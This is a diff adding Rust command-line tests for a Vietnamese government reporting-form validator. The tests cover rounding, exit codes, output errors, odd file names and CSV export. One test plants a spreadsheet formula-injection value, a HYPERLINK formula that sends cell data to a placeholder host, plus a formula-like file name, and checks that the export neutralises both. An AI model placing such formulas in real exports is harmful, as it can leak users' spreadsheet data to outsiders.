@@ -32,7 +32,13 @@ fn validate_exits_0_for_a_return_without_errors_and_prints_vietnamese_by_section
     assert!(text.contains("Kết quả: 0 lỗi, 1 cảnh báo"), "{text}");
     assert!(text.contains("6. Hoạt động chính quyền số"), "{text}");
     assert!(text.contains("Chỉ tiêu (điểm tạm tính)"));
-    assert!(text.contains("94,86 %") || text.contains("100 %"));
+    let indicator = |code: &str| {
+        let line = text.lines().find(|l| l.split_whitespace().next() == Some(code)).unwrap();
+        line.split("  ").filter(|p| !p.is_empty()).last().unwrap().trim().to_string()
+    };
+    assert_eq!(indicator("6.1.1.c/a"), "94,86 % (830/875)");
+    assert_eq!(indicator("6.1.1"), "100 % (875/875) · 22,22 / 22,22 điểm");
+    assert_eq!(indicator("5.5"), "chưa tính được: mẫu số bằng 0 (0/0)");
 }
 
 #[test]
@@ -145,6 +151,17 @@ fn usage_errors_exit_2_and_help_exits_0() {
     assert_eq!(pdti(&["frobnicate"]).status.code(), Some(2));
     assert_eq!(pdti(&["validate"]).status.code(), Some(2));
     assert_eq!(pdti(&["validate", "--format", "xml", "x"]).status.code(), Some(2));
+    let o = pdti(&["validate", "--bogus", "x"]);
+    assert_eq!(
+        (o.status.code(), stderr(&o).as_str()),
+        (Some(2), "pdti: không có tuỳ chọn '--bogus' (unknown option)\n")
+    );
+    let o = pdti(&["schema", "x"]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(o.stdout.is_empty());
+    let o = pdti(&["validate", "--help"]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(stdout(&o).contains("'--' kết thúc các tuỳ chọn"));
     let o = pdti(&["--help"]);
     assert_eq!(o.status.code(), Some(0));
     assert!(stdout(&o).contains("pdti validate"));
@@ -184,7 +201,7 @@ fn validate_csv_puts_returns_side_by_side_for_a_spreadsheet() {
     assert_eq!(col("từ ngày"), "2023-01-01");
     assert_eq!(col("lỗi"), "0");
     assert_eq!(col("3.1.2 (%)"), "88.37");
-    assert_eq!(col("4.1 (%)"), "provinceComputes");
+    assert_eq!(col("4.1 (%)"), "do tỉnh tính", "the CSV speaks Vietnamese");
     let sample = common::path("fixtures/laichau-stp-2023h1.tsv");
     let o = pdti(&["import-legacy", "--format", "csv", sample.to_str().unwrap()]);
     let text = stdout(&o);
@@ -246,4 +263,151 @@ fn aggregate_csv_has_one_row_per_field_then_one_per_indicator() {
     let yes_no = text.split("\r\n").find(|l| l.starts_with("6.2.a,")).unwrap();
     assert!(yes_no.ends_with(",có/không,,1,0,1,0"), "{yes_no}");
     assert!(text.split("\r\n").any(|l| l.starts_with("6.4,") && l.contains(",%,")));
+}
+
+#[test]
+fn an_indicator_is_rounded_half_away_from_zero_alike_on_the_page_in_the_json_the_text_and_the_csv() {
+    // 1/32 = 3.125 %: half to even would give 3.12, half away from zero 3.13.
+    let mut s = pdti_form::engine::Session::new(common::form());
+    s.set_all([("agency.name", "Sở Tư pháp"), ("3.1.1", "32"), ("3.1.2.a", "1")]).unwrap();
+    let i = s.form().indicators.iter().position(|x| x.code == "3.1.2").unwrap();
+    assert_eq!(s.indicator_text(i, "vi").value, "3,13 % (1/32)");
+    assert_eq!(s.indicator_text(i, "en").value, "3.13 % (1/32)");
+    let doc = pdti_form::document::to_json(&s, None, None);
+    let v: serde_json::Value = serde_json::from_str(&doc).unwrap();
+    assert_eq!(v["indicators"][i]["code"], "3.1.2");
+    assert_eq!(v["indicators"][i]["percent"], "3.13");
+    let f = tmp("one-in-32.json", doc.as_bytes());
+    let text = stdout(&pdti(&["validate", &f]));
+    let line = text.lines().find(|l| l.trim_start().starts_with("3.1.2 ")).unwrap();
+    assert!(line.contains(" 3,13 % (1/32)"), "{line}");
+    let csv = stdout(&pdti(&["validate", "--format", "csv", &f]));
+    let rows: Vec<Vec<&str>> = csv.trim_start_matches('\u{FEFF}').lines().map(|l| l.split(',').collect()).collect();
+    let col = rows[0].iter().position(|h| *h == "3.1.2 (%)").unwrap();
+    assert_eq!(rows[1][col], "3.13");
+}
+
+#[test]
+fn a_failed_write_exits_2_with_one_line_on_stderr() {
+    let complete = common::path("fixtures/complete-return.json");
+    let c = complete.to_str().unwrap();
+    for args in [vec!["validate", c], vec!["validate", "--format", "json", c], vec!["schema"], vec!["--help"]] {
+        let full = std::fs::File::create("/dev/full").expect("Linux has /dev/full");
+        let o = Command::new(env!("CARGO_BIN_EXE_pdti")).args(&args).stdout(full).output().unwrap();
+        assert_eq!(o.status.code(), Some(2), "{args:?}");
+        let err = stderr(&o);
+        assert_eq!(err.lines().count(), 1, "{err}");
+        assert!(err.starts_with("pdti: không ghi được kết quả (cannot write the output: "), "{err}");
+    }
+}
+
+#[test]
+fn a_reader_that_stops_early_ends_the_output_quietly() {
+    use std::io::BufRead;
+    // Enough output to fill the pipe many times over.
+    let complete = common::path("fixtures/complete-return.json");
+    let files = vec![complete.to_str().unwrap(); 300];
+    let mut child = Command::new(env!("CARGO_BIN_EXE_pdti"))
+        .arg("validate")
+        .args(&files)
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut first = String::new();
+    std::io::BufReader::new(child.stdout.take().unwrap()).read_line(&mut first).unwrap();
+    assert_eq!(first.trim_end(), files[0]);
+    // The reader is gone (as `| head -1` leaves): no panic, no message.
+    let o = child.wait_with_output().unwrap();
+    assert_eq!(stderr(&o), "");
+    assert_eq!(o.status.code(), Some(pdti_form::cli::BROKEN_PIPE));
+}
+
+#[test]
+fn a_file_name_that_is_not_utf8_is_read_and_shown_with_a_replacement_character() {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = std::env::temp_dir().join(format!("pdti-cli-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let name = std::ffi::OsStr::from_bytes(b"b\xe1o-c\xe1o.json");
+    let file = dir.join(name);
+    std::fs::copy(common::path("fixtures/complete-return.json"), &file).unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).arg("validate").arg(&file).output().unwrap();
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    assert!(stdout(&o).starts_with(&format!("{}\n", file.to_string_lossy())), "{}", stdout(&o));
+    assert!(stdout(&o).contains("b\u{FFFD}o-c\u{FFFD}o.json"));
+    // One that does not exist: exit 2, one line naming it.
+    let missing = dir.join(std::ffi::OsStr::from_bytes(b"missing-\xff.json"));
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).arg("validate").arg(&missing).output().unwrap();
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.contains("missing-\u{FFFD}.json: không tìm thấy tệp"), "{err}");
+}
+
+#[test]
+fn a_double_dash_ends_the_options_so_a_file_may_start_with_a_dash() {
+    let dir = std::env::temp_dir().join(format!("pdti-cli-dash-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    std::fs::copy(common::path("fixtures/complete-return.json"), dir.join("-x.json")).unwrap();
+    let run = |args: &[&str]| Command::new(env!("CARGO_BIN_EXE_pdti")).current_dir(&dir).args(args).output().unwrap();
+    let o = run(&["validate", "--format", "json", "--", "-x.json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(v[0]["file"], "-x.json");
+    // Without `--` it is an unknown option, and the message says what to do.
+    let o = run(&["validate", "-x.json"]);
+    assert_eq!(o.status.code(), Some(2));
+    let err = stderr(&o);
+    assert_eq!(err.lines().count(), 1, "{err}");
+    assert!(err.contains("'-x'") && err.contains("'--'"), "{err}");
+    // `-` still reads standard input, and `--format=csv` still works.
+    let o = run(&["validate", "--format=csv", "--", "-x.json"]);
+    assert_eq!(o.status.code(), Some(0));
+    assert!(stdout(&o).contains("\r\n\"'-x.json\",Sở Tư pháp,"), "{}", stdout(&o));
+}
+
+#[test]
+fn csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let agency = r#"=HYPERLINK("http://x"&A1,"Bấm")"#;
+    let mut s = pdti_form::engine::Session::new(common::form());
+    s.set_all([
+        ("agency.name", agency),
+        ("period.from", "-01/2023"),
+        ("period.to", "30/06/2023"),
+        ("3.1.1", "32"),
+        ("3.1.2.a", "1"),
+    ])
+    .unwrap();
+    let dir = std::env::temp_dir().join(format!("pdti-cli-csv-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("@SUM(1+1).json");
+    std::fs::write(&file, pdti_form::document::to_json(&s, None, None)).unwrap();
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti")).args(["validate", "--format", "csv"]).arg(&file).output().unwrap();
+    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
+    let text = stdout(&o);
+    // Read back by an independent CSV reader.
+    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    let col = |name: &str| rows[0][header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(col("cơ quan"), format!("'{agency}"));
+    assert_eq!(col("tệp"), file.to_str().unwrap(), "an absolute path starts with /: safe as it is");
+    assert_eq!(col("từ ngày"), "'-01/2023", "an unreadable date is kept as typed, neutralised");
+    assert_eq!(col("đến ngày"), "2023-06-30");
+    // Numbers are untouched.
+    assert_eq!(col("lỗi"), s.summary().errors.to_string());
+    assert_eq!(col("3.1.2 (%)"), "3.13");
+    assert_eq!(col("6.4 (%)"), "chưa tính được: thiếu mẫu số");
+    // A file name that starts like a formula is neutralised too.
+    let o = Command::new(env!("CARGO_BIN_EXE_pdti"))
+        .current_dir(&dir)
+        .args(["validate", "--format=csv", "@SUM(1+1).json"])
+        .output()
+        .unwrap();
+    let text = stdout(&o);
+    let mut reader = csv::Reader::from_reader(text.strip_prefix('\u{FEFF}').unwrap().as_bytes());
+    let row = reader.records().next().unwrap().unwrap();
+    assert_eq!(&row[0], "'@SUM(1+1).json");
+    assert_eq!(&row[1], format!("'{agency}"));
 }
